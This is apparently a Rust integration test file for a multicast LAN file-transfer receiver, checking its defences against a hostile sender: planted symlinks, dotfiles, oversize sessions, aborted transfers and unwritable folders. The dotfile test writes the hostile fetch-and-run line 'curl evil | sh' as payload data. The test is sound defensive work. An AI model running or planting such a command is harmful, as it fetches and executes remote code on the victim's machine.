//! The receiver's output folder against a hostile sender (anyone on the LAN can run one), with the
//! real binary over loopback multicast: symlinks planted where the receiver writes, a file already
//! there, dotfiles, sizes past --max-size or the disk, a folder that cannot be written to, and
//! `recv --keep` after a session that went wrong.

mod common;

use common::{
    Http, Proc, TempDir, bin, is_root, md5_of, random_file, recv, recv_with, send, text, www_with,
};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

const LIMIT: Duration = Duration::from_secs(60);

/// The names in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    v.sort();
    v
}

/// A receiver learns the session id (its `-v` log names it) before it writes anything; the names
/// it may use for its temporary file (then `.{name}.{session:08x}.part`) were thereby known to
/// anyone on the LAN. A symlink is planted there, and one at the final name: neither is followed,
/// and the file lands beside them.
#[test]
fn a_symlink_planted_at_the_temporary_or_the_final_name_is_not_followed() {
    let dir = TempDir::new("symlink");
    let src = dir.path().join("x.bin");
    random_file(&src, 300_000, 31);
    let (spy_out, out) = (dir.path().join("spy"), dir.path().join("out"));
    let group = "239.77.3.1:47201";
    let s = send(group, &src, &["--min-receivers", "2", "--wait", "30"]);
    // The first receiver joins and is stopped: it has learnt the session id.
    let spy = recv_with(group, &spy_out, "spy", &["-v"]);
    // Joined once its temporary file stays (a probe at start comes and goes at once).
    let start = Instant::now();
    let mut last = Vec::new();
    loop {
        std::thread::sleep(Duration::from_millis(100));
        let now = std::fs::read_dir(&spy_out).map_or(Vec::new(), |_| names(&spy_out));
        if !now.is_empty() && now == last {
            break;
        }
        assert!(start.elapsed() < LIMIT, "the spy never joined");
        last = now;
    }
    let (_, log) = text(&spy.stop());
    let session: u32 = log
        .split("SessionInfo { session: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no session id in {log}"));
    // One victim holds something precious, the other is a copy of the file itself (so following
    // the link would say "already present" and receive nothing).
    let precious = dir.path().join("precious");
    let copy = dir.path().join("copy.bin");
    std::fs::write(&precious, b"precious").unwrap();
    std::fs::copy(&src, &copy).unwrap();
    std::fs::create_dir_all(&out).unwrap();
    let temp = out.join(format!(".x.bin.{session:08x}.part"));
    std::os::unix::fs::symlink(&precious, &temp).unwrap();
    std::os::unix::fs::symlink(&copy, out.join("x.bin")).unwrap();

    let o = recv(group, &out, "pc").wait(LIMIT);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    assert!(
        std::fs::read(&precious).unwrap() == b"precious",
        "the file behind the link planted at the temporary name was written"
    );
    assert!(!stderr.contains("already present"), "{stderr}");
    assert_eq!(
        std::fs::read_link(out.join("x.bin")).unwrap(),
        copy,
        "the planted link is kept as it was"
    );
    let landed = out.join("x (1).bin");
    assert_eq!(stdout.trim(), landed.display().to_string());
    assert!(!landed.is_symlink());
    assert_eq!(md5_of(&landed), md5_of(&src));
    drop(s);
}

/// A different `worksheet.pdf` (of the same size, so the receiver checks it first) is kept and the
/// new one lands as `worksheet (1).pdf`; with --overwrite it is replaced.
#[test]
fn a_different_file_in_the_way_is_kept_unless_overwrite() {
    let dir = TempDir::new("inway");
    let src = dir.path().join("worksheet.pdf");
    random_file(&src, 200_000, 32);
    let (keep, over) = (dir.path().join("keep"), dir.path().join("over"));
    for out in [&keep, &over] {
        std::fs::create_dir_all(out).unwrap();
        random_file(&out.join("worksheet.pdf"), 200_000, 40);
    }
    let old = md5_of(&keep.join("worksheet.pdf"));
    let group = "239.77.3.2:47202";
    let rk = recv(group, &keep, "keep");
    let ro = recv_with(group, &over, "over", &["--overwrite"]);
    let s = send(group, &src, &["--min-receivers", "2", "--wait", "20"]).wait(LIMIT);
    assert!(s.status.success(), "{:?}", text(&s));

    let o = rk.wait(LIMIT);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    let landed = keep.join("worksheet (1).pdf");
    assert_eq!(stdout.trim(), landed.display().to_string());
    assert!(
        stderr.contains("worksheet.pdf is already there and is kept"),
        "{stderr}"
    );
    assert_eq!(md5_of(&keep.join("worksheet.pdf")), old);
    assert_eq!(md5_of(&landed), md5_of(&src));
    assert_eq!(names(&keep), ["worksheet (1).pdf", "worksheet.pdf"]);

    let o = ro.wait(LIMIT);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    assert_eq!(
        stdout.trim(),
        over.join("worksheet.pdf").display().to_string()
    );
    assert!(stderr.contains("--overwrite: replacing"), "{stderr}");
    assert_eq!(md5_of(&over.join("worksheet.pdf")), md5_of(&src));
    assert_eq!(names(&over), ["worksheet.pdf"]);
}

/// `.bashrc` announced into a home folder is kept visible as `_bashrc`; --allow-hidden keeps it.
#[test]
fn a_dotfile_is_not_written_as_a_dotfile_without_allow_hidden() {
    let dir = TempDir::new("dotfile");
    let src = dir.path().join("payload");
    std::fs::write(&src, b"curl evil | sh\n").unwrap();
    let (home, allowed) = (dir.path().join("home"), dir.path().join("allowed"));
    let group = "239.77.3.3:47203";
    let rh = recv(group, &home, "home");
    let ra = recv_with(group, &allowed, "allowed", &["--allow-hidden"]);
    let s = send(
        group,
        &src,
        &["--name", ".bashrc", "--min-receivers", "2", "--wait", "20"],
    )
    .wait(LIMIT);
    assert!(s.status.success(), "{:?}", text(&s));
    let o = rh.wait(LIMIT);
    assert!(o.status.success(), "{:?}", text(&o));
    assert_eq!(names(&home), ["_bashrc"]);
    assert_eq!(md5_of(&home.join("_bashrc")), md5_of(&src));
    let o = ra.wait(LIMIT);
    assert!(o.status.success(), "{:?}", text(&o));
    assert_eq!(names(&allowed), [".bashrc"]);
}

/// Refused at join, in one line; nothing is written, and the sender counts the receiver failed.
#[test]
fn a_session_larger_than_max_size_is_refused_and_nothing_is_written() {
    let dir = TempDir::new("maxsize");
    let src = dir.path().join("big.iso");
    random_file(&src, 300_000, 34);
    let out = dir.path().join("out");
    let group = "239.77.3.4:47204";
    let r = recv_with(group, &out, "pc", &["--max-size", "100K"]);
    let s = send(group, &src, &["--wait", "20"]).wait(LIMIT);
    let o = r.wait(LIMIT);
    let (_, stderr) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    // What it listened for, then the one line.
    assert_eq!(stderr.trim().lines().count(), 2, "{stderr}");
    assert!(
        stderr.contains("big.iso (293.0 KiB): larger than --max-size 100.0 KiB"),
        "{stderr}"
    );
    assert!(names(&out).is_empty(), "{:?}", names(&out));
    let (summary, log) = text(&s);
    assert_eq!(s.status.code(), Some(2), "{summary}\n{log}");
    assert!(summary.contains("failed"), "{summary}");
}

/// A download of unknown size is stopped once it passes --max-size; nothing is kept.
#[test]
fn a_growing_session_is_stopped_at_max_size() {
    let dir = TempDir::new("maxsize-growing");
    let www = www_with(dir.path(), "grows.bin", 8 << 20, 35);
    let http = Http::start(&mut Command::new("env"), &www, "127.0.0.1", &["--chunked"]);
    let out = dir.path().join("out");
    let group = "239.77.3.5:47205";
    let r = recv_with(group, &out, "pc", &["--max-size", "1M"]);
    let url = format!("http://127.0.0.1:{}/grows.bin", http.port);
    let s = Proc::spawn(
        "send",
        Command::new(bin()).args([
            "send", &url, "--group", group, "--iface", "lo", "--rate", "300M",
        ]),
    );
    let o = r.wait(LIMIT);
    let (_, stderr) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("grows.bin: larger than --max-size 1.0 MiB"),
        "{stderr}"
    );
    assert!(names(&out).is_empty(), "{:?}", names(&out));
    drop(s);
}

/// A sender stopped with Ctrl-C aborts its session: `recv --keep` says so in one line, listens
/// again and receives the next file; what it had of the first is kept (hidden) for a re-run.
#[test]
fn keep_goes_on_after_an_aborted_session_and_receives_the_next_file() {
    let dir = TempDir::new("keep-abort");
    let out = dir.path().join("out");
    let (big, next) = (dir.path().join("big.bin"), dir.path().join("next.bin"));
    random_file(&big, 8 << 20, 36);
    random_file(&next, 500_000, 38);
    let group = "239.77.3.6:47206";
    let r = Proc::spawn(
        "keep",
        Command::new(bin())
            .args(["recv", "--group", group, "--iface", "lo", "--keep"])
            .args(["--timeout", "4", "--out"])
            .arg(&out),
    );
    // 1 Mbit/s: a minute's transfer, stopped after two seconds.
    let s = send(group, &big, &["--rate", "1M"]);
    std::thread::sleep(Duration::from_secs(2));
    s.interrupt();
    let s = s.wait(LIMIT);
    assert_eq!(s.status.code(), Some(130), "{:?}", text(&s));
    let s = send(group, &next, &["--rate", "400M", "--wait", "10"]).wait(LIMIT);
    assert!(s.status.success(), "{:?}", text(&s));
    let o = r.wait(LIMIT);
    let (stdout, stderr) = text(&o);
    assert!(o.status.success(), "{stderr}");
    assert!(
        stderr.contains("the sender aborted the session; waiting for the next session"),
        "{stderr}"
    );
    assert_eq!(stdout.trim(), out.join("next.bin").display().to_string());
    assert_eq!(md5_of(&out.join("next.bin")), md5_of(&next));
    // The aborted file stays only as its hidden partial file and record, for a re-run to resume.
    let names = names(&out);
    let (kept, shown): (Vec<&String>, Vec<&String>) =
        names.iter().partition(|n| n.starts_with(".edm-cast-"));
    assert_eq!(shown, ["next.bin"]);
    assert!(
        kept.len() == 2 && kept[0].ends_with(".part") && kept[1].ends_with(".resume"),
        "{kept:?}"
    );
}

/// An empty file already there, announced again: its check and the (instant) verification of
/// the empty file race; whichever answers first, the receiver reports it present and does not
/// panic. Four receivers, four draws of the race.
#[test]
fn an_identical_empty_file_already_there_is_found_present_without_a_panic() {
    let dir = TempDir::new("present-empty");
    let src = dir.path().join("empty.txt");
    std::fs::write(&src, b"").unwrap();
    let group = "239.77.3.7:47207";
    let outs: Vec<_> = (0..4).map(|i| dir.path().join(format!("pc{i}"))).collect();
    let receivers: Vec<Proc> = outs
        .iter()
        .enumerate()
        .map(|(i, out)| {
            std::fs::create_dir_all(out).unwrap();
            std::fs::write(out.join("empty.txt"), b"").unwrap();
            recv(group, out, &format!("pc{i}"))
        })
        .collect();
    let s = send(group, &src, &["--min-receivers", "4", "--wait", "20"]).wait(LIMIT);
    for (r, out) in receivers.into_iter().zip(&outs) {
        let o = r.wait(LIMIT);
        let (stdout, stderr) = text(&o);
        assert!(o.status.success(), "{stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
        assert!(stderr.contains("already present, same MD5"), "{stderr}");
        assert_eq!(stdout.trim(), out.join("empty.txt").display().to_string());
        assert_eq!(names(out), ["empty.txt"]);
    }
    assert!(s.status.success(), "{:?}", text(&s));
}

/// Reported at start, in one line, rather than as "no session heard" or once data arrives. As
/// root (which permission bits do not stop) the folder is a read-only tmpfs.
#[test]
fn an_out_folder_that_cannot_be_written_to_is_reported_at_start() {
    let dir = TempDir::new("readonly");
    let out = dir.path().join("ro");
    std::fs::create_dir_all(&out).unwrap();
    struct Unmount(Option<std::path::PathBuf>);
    impl Drop for Unmount {
        fn drop(&mut self) {
            if let Some(p) = &self.0 {
                let _ = Command::new("umount").arg(p).status();
            }
        }
    }
    let _unmount = if is_root() {
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "ro,size=1m", "edm-cast-test"])
            .arg(&out)
            .status()
            .is_ok_and(|s| s.success());
        if !mounted {
            eprintln!("skipping the read-only test: cannot mount a tmpfs here");
            return;
        }
        Unmount(Some(out.clone()))
    } else {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o555)).unwrap();
        Unmount(None)
    };
    let o = recv("239.77.3.8:47208", &out, "pc").wait(LIMIT);
    let (_, stderr) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains(&format!("cannot write into {}", out.display())),
        "{stderr}"
    );
    assert!(stderr.contains("choose another --out"), "{stderr}");
}
